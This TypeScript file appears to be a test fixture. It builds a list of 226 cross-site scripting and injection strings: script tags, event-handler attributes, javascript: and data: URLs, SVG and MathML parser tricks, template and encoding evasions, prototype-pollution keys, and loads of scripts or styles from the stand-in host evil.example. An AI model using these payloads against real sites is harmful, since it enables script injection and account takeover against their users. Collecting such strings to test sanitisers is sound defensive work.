/**
 * Strings by which pages have been made to run what somebody wrote into them:
 * HTML, attributes, addresses, SVG, styles, Markdown, templates, and what parsers
 * turn into those only on the second reading. Each calls `pwn`, or asks a host
 * for something; a page that shows them as text does neither.
 */

/** A host that no honest page of ours ever asks. */
const evilHost = 'evil.example'

const calls = ['pwn(1)', 'window.pwn(2)', "top['pwn'](3)", 'eval("pwn(4)")'] as const
const far = `//${evilHost}`

/** For each call: elements, and attributes that run by themselves. */
const elements = (call: string): readonly string[] => [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT\t>`,
  `<img src=x onerror="${call}">`,
  `<img/src='x'/onerror=${call.replaceAll('"', '')}>`,
  `<svg onload='${call}'>`,
  `<svg><script>${call}</script></svg>`,
  `<body onload='${call}'>`,
  `<details open ontoggle='${call}'>x`,
  `<input autofocus onfocus='${call}'>`,
  `<video><source onerror='${call}'></video>`,
  `<audio src=x onerror='${call}'>`,
  `<iframe srcdoc="<script>${call.replaceAll('"', "'")}</script>">`,
  `<marquee onstart='${call}'>x</marquee>`,
  `<a href='javascript:${call}'>x</a>`,
  `<form action='javascript:${call}'><button>x`,
  `<object data='javascript:${call}'>`,
  `<math><mi xlink:href='javascript:${call}'>x`,
  `<div style='animation:x' onanimationstart='${call}'>`,
]

/** For each call: out of an attribute, a script, a comment, a template or a text area. */
const escapes = (call: string): readonly string[] => [
  `"><script>${call}</script>`,
  `'><img src=x onerror=${call.replaceAll('"', '')}>`,
  `" onmouseover="${call.replaceAll('"', "'")}" x="`,
  `' autofocus onfocus='${call}`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><img src=x onerror='${call}'>`,
  `</style><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `\`;${call};\``,
  `\${${call}}`,
  `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `';${call};//`,
  `");${call};//`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `%3Cscript%3E${encodeURIComponent(call)}%3C/script%3E`,
]

/** For each call: addresses and Markdown that make one. */
const addresses = (call: string): readonly string[] => [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  `[x](javascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x]: javascript:${call}`,
]

/** One of a kind. */
const others: readonly string[] = [
  `<img src=${far}/a.png>`,
  `![x](${far}/b.png)`,
  `<link rel=stylesheet href=${far}/c.css>`,
  `<link rel=prefetch href=https:${far}/d>`,
  `<style>@import '${far}/e.css';</style>`,
  `<style>*{background:url(${far}/f)}</style>`,
  `x;background:url(${far}/g)`,
  `url(javascript:pwn(5))`,
  `expression(pwn(6))`,
  `<script src=${far}/h.js></script>`,
  `<base href=${far}/>`,
  `<meta http-equiv=refresh content="0;url=${far}/i">`,
  `<iframe src=${far}/j></iframe>`,
  `<svg><use href='data:image/svg+xml,<svg id=x onload=pwn(7)>#x'/></svg>`,
  `<svg><animate onbegin=pwn(8) attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=pwn(9)></foreignObject></svg>`,
  `<svg><a xlink:href=javascript:pwn(10)><text y=9>x</text></a></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=pwn(11)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwn(12)>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn(13)>`,
  `<noscript><p title="</noscript><img src=x onerror=pwn(14)>">`,
  `<template><script>pwn(15)</script></template>`,
  `<x-y is=script>pwn(16)</x-y>`,
  `<textarea><img title="</textarea><img src=x onerror=pwn(17)>">`,
  `\u0000<script>pwn(18)</script>`,
  `<scr\u0000ipt>pwn(19)</script>`,
  `\u202e>tpircs/<)02(nwp>tpircs<`,
  `\u2066<script>pwn(21)</script>\u2069`,
  `<script>pwn(22)</script\u2028>`,
  `\ufeff<script>pwn(23)</script>`,
  `＜script＞pwn(24)＜/script＞`,
  `+ADw-script+AD4-pwn(25)+ADw-/script+AD4-`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=pwn(26)>"}}`,
  `__proto__`,
  `constructor`,
  `__proto__[onerror]=pwn(27)`,
  `\`\`\`html\n<script>pwn(28)</script>\n\`\`\``,
  `<a href="x" ping=${far}/k>x</a>`,
]

/** 226 strings, all different. */
export const injections: readonly string[] = [
  ...calls.flatMap((call) => [...elements(call), ...escapes(call), ...addresses(call)]),
  ...others,
]
